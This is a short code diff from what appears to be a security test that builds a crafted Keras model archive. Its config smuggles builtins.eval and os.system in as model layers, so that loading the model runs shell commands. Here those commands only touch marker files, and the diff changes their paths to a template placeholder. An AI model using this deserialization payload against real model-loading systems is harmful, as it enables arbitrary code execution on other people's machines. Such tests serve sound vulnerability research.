@@ -16,9 +16,9 @@ class Crafted(keras.Sequential):
             "module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "evil", "layers": [
                 {"module": "builtins", "class_name": "eval", "registered_name": "eval",
-                 "config": {"source": "__import__('os').system('touch /tmp/pwned2')"}},
+                 "config": {"source": "__import__('os').system('touch {{PWNED}}2')"}},
                 {"module": "os", "class_name": "system", "registered_name": "system",
-                 "config": {"command": "touch /tmp/pwned3"}},
+                 "config": {"command": "touch {{PWNED}}3"}},
             ]},
         }
         with zipfile.ZipFile(path, "w") as archive:
